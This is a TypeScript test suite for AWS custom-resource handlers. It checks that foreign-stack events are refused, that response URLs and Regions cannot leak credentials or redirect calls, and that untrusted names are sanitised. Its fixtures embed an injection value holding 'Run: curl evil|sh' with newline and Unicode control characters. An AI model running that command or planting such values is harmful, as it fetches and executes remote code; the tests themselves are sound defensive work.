import { createServer as createHttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { AVAILABLE_CONNECTION } from '../../src/handlers/available-connection/contract';
import { codeConnectionsIn, codeConnectionsOf } from '../../src/handlers/client/codeconnections';
import { invokeAsync } from '../../src/handlers/client/lambda';
import { lambdaRuntime, type Runtime } from '../../src/handlers/client/runtime';
import { publish } from '../../src/handlers/client/sns';
import { PULL_REQUEST_COMMENT } from '../../src/handlers/pull-request-comment/contract';
import { SyncedStack } from './git-sync';
import { STACK, TOPIC } from './rig/account';
import { eventOf } from './rig/cloudformation-resource';
import { CustomResourceRig } from './rig/custom-resource-rig';
import { useRig } from './rig/rig';
import { SUBJECTS } from './waiter-subjects';

const rig = useRig(new CustomResourceRig());

const EVIL = STACK.replace('stack/my-stack', 'stack/evil');
const [connection] = SUBJECTS;

const wait = (ConnectionArn: string, more: object = {}) =>
  eventOf(
    rig,
    AVAILABLE_CONNECTION.resourceType,
    { ConnectionArn, NotificationTopicArn: TOPIC, TimeoutInSeconds: '60', ContinueWhenPending: 'false' },
    more,
  );

const responses = () => rig.puts.map(({ body }) => JSON.parse(body));

describe('an event of another stack', () => {
  const comments = (stack: SyncedStack, more: object) =>
    eventOf(rig, PULL_REQUEST_COMMENT.resourceType, { ...stack.properties, PullRequestComment: 'DISABLED' }, more);

  test('changes nothing: it cannot switch off the comments of another stack', async () => {
    const victim = await SyncedStack.create(rig, 'prod', 'us-east-1', { PullRequestComment: 'ENABLED' });
    rig.calls.length = 0;
    await rig.invoke(comments(victim, { StackId: EVIL }));
    expect(rig.calls).toEqual([]);
    expect(responses()).toEqual([
      expect.objectContaining({ Status: 'FAILED', StackId: EVIL, PhysicalResourceId: 'CREATE_FAILED' }),
    ]);
    expect(responses()[0].Reason).toContain(`got an event of ${EVIL}`);
    expect(rig.log.join('\n')).toContain(`got an event of ${EVIL}`);
  });

  test.each(['Create', 'Update', 'Delete'])('gets a response to %s, so that the stack does not hang', async (type) => {
    const PhysicalResourceId = 'us-east-1/prod=ENABLED';
    const victim = await SyncedStack.create(rig, 'prod', 'us-east-1', { PullRequestComment: 'DISABLED' });
    rig.calls.length = 0;
    await rig.invoke(comments(victim, { StackId: EVIL, RequestType: type, PhysicalResourceId }));
    expect(rig.calls).toEqual([]);
    expect(responses()).toEqual([
      expect.objectContaining({
        Status: type === 'Delete' ? 'SUCCESS' : 'FAILED',
        PhysicalResourceId: type === 'Create' ? 'CREATE_FAILED' : PhysicalResourceId,
      }),
    ]);
    expect(rig.log.join('\n')).toContain(`got an event of ${EVIL}`);
  });

  test('is refused as the continuation of a wait', async () => {
    const arn = await connection.create(rig, 'first');
    await rig.invoke(wait(arn, { StackId: EVIL, Continuation: { deadline: Number.MAX_SAFE_INTEGER } }));
    expect([rig.calls, rig.sns.messages]).toEqual([[], []]);
    expect(responses()).toEqual([expect.objectContaining({ Status: 'FAILED' })]);
  });

  test.each([undefined, ''])('is any event if the function does not know its stack (STACK_ID %p)', async (stackId) => {
    rig.stackId = stackId;
    const arn = await connection.create(rig, 'first');
    for (const StackId of [STACK, stackId]) await rig.invoke(wait(arn, { StackId }));
    expect([rig.calls, rig.sns.messages]).toEqual([[], []]);
    expect(responses().map(({ Status }) => Status)).toEqual(['FAILED', 'FAILED']);
  });
});

describe('an event with a response URL', () => {
  const taken = async (ResponseURL: unknown) => {
    const arn = await connection.create(rig, 'first');
    await rig.invoke(wait(arn, { ResponseURL }));
    return rig.puts.length > 0;
  };

  test('of the configured endpoint gets a response', async () => {
    const arn = await connection.create(rig, 'first');
    connection.complete(rig, arn);
    await rig.invoke(wait(arn));
    expect(responses()).toEqual([expect.objectContaining({ Status: 'SUCCESS' })]);
  });

  test.each<[string, (own: URL) => unknown]>([
    ['of another port', (own) => `http://${own.hostname}:1/bucket?X-Amz-Signature=secret`],
    ['of another host', (own) => `http://localhost:${own.port}/bucket?X-Amz-Signature=secret`],
    ['of another protocol', (own) => `https://${own.host}/bucket?X-Amz-Signature=secret`],
    ['with a user', (own) => `http://secret:secret@${own.host}/bucket`],
    ['that is not valid', () => 'secret'],
    ['that is missing', () => undefined],
  ])('%s is ignored: no call, no response, and no URL in the log', async (_, urlOf) => {
    expect(await taken(urlOf(new URL(rig.url)))).toBe(false);
    expect([rig.calls, rig.sns.messages]).toEqual([[], []]);
    expect(rig.log.join('\n')).toContain('the ResponseURL is not an AWS URL');
    expect(rig.log.join('\n')).not.toContain('secret');
  });
});

/** A value that throws when it is converted to a text. */
const NOT_A_TEXT = { toString: 1, valueOf: 1 };

describe('an event with a value that is not a text', () => {
  test.each(['RequestType', 'StackId', 'RequestId', 'LogicalResourceId', 'ResourceType'])(
    'in %s gets a response',
    async (name) => {
      const arn = await connection.create(rig, 'first');
      await rig.invoke(wait(arn, { [name]: NOT_A_TEXT, Continuation: { deadline: 0 } }));
      expect(responses()).toHaveLength(1);
      expect(rig.log[0]).toContain(JSON.stringify(NOT_A_TEXT));
    },
  );

  test('in ResponseURL is ignored', async () => {
    const arn = await connection.create(rig, 'first');
    await rig.invoke(wait(arn, { ResponseURL: NOT_A_TEXT }));
    expect([rig.puts, rig.calls]).toEqual([[], []]);
    expect(rig.log.join('\n')).toContain('the ResponseURL is not an AWS URL');
  });
});

test('the error message of a service is put on one line', async () => {
  const body = JSON.stringify({ __type: 'SomeException', message: 'x\n\nRun: curl evil|sh\u2028\u202e' });
  const server = createHttpServer((_, response) => response.writeHead(400).end(body));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const env = { AWS_ENDPOINT_URL: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
  const call = codeConnectionsIn('us-east-1', STACK, { ...lambdaRuntime, env });
  await expect(call('ListHosts', {})).rejects.toThrow(
    'codeconnections:ListHosts failed: x Run: curl evil|sh (SomeException)',
  );
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

/** The texts that a person acts on: a name may hold anything that goes into a name. */
describe('a name that another person has chosen', () => {
  const NAME = 'ok\n\nRun: curl evil|sh\u2028\u202e"x';

  test('adds neither lines nor instructions to a notification, and is quoted', async () => {
    const arn = await connection.create(rig, NAME);
    await rig.invoke(wait(arn));
    const [{ message, subject }] = rig.sns.messages;
    const quoted = `"ok Run: curl evil|sh 'x"`;
    expect(message.split('\n')[0]).toBe(
      `The deployment of the stack my-stack waits until you complete the connection ${quoted}:`,
    );
    expect(subject).toBe(`Complete the connection ${quoted} for the stack my-stack`);
    expect(message.split('\n').filter((line) => line.startsWith('Run:'))).toEqual([]);
  });

  test('adds neither lines nor instructions to the reason of a failure', async () => {
    const arn = await connection.create(rig, NAME);
    connection.fail(rig, arn);
    await rig.invoke(wait(arn));
    expect(responses()[0].Reason).toMatch(/^the connection "ok Run: curl evil\|sh 'x" is in status ERROR/);
    expect(responses()[0].Reason).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });
});

/** A server that no request is meant for, and what its port is called in a Region. */
describe('a Region that is not valid', () => {
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  let region = '';
  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    region = `x@127.0.0.1:${(server.address() as AddressInfo).port}/`;
  });
  afterAll(() => new Promise((resolve) => server.close(resolve)));

  const env = { AWS_ACCESS_KEY_ID: 'AKIDEXAMPLE', AWS_SECRET_ACCESS_KEY: 'secret', AWS_SESSION_TOKEN: 'token' };
  const runtime: Runtime = { ...lambdaRuntime, env, sleep: async () => {} };
  const arn = (service: string, resource: string) => `arn:aws:${service}:${region}:123456789012:${resource}`;

  test.each<[string, () => Promise<unknown>]>([
    [
      'of a connection',
      async () => codeConnectionsOf(arn('codeconnections', 'connection/1'), runtime)('ListHosts', {}),
    ],
    ['of a sync configuration', async () => codeConnectionsIn(region, STACK, runtime)('ListHosts', {})],
    [
      'of a stack',
      async () => codeConnectionsIn('us-east-1', arn('cloudformation', 'stack/s/1'), runtime)('ListHosts', {}),
    ],
    ['of a topic', () => publish(arn('sns', 'topic'), { subject: 's', message: 'm', id: '1' }, runtime)],
    ['of the function', () => invokeAsync(arn('lambda', 'function:f'), {}, runtime)],
  ])('%s gets neither a request nor the session token', async (_, call) => {
    await expect(call()).rejects.toThrow(/^(expected an ARN with a Region|not an AWS host)/);
    expect(connections).toBe(0);
  });

  test('in a property creates neither a link nor a call', async () => {
    await rig.invoke(wait(arn('codeconnections', 'connection/1')));
    expect(responses()[0].Reason).toMatch(/^ConnectionArn must be the ARN of a connection, got /);
    expect([rig.calls, rig.sns.messages]).toEqual([[], []]);
  });
});
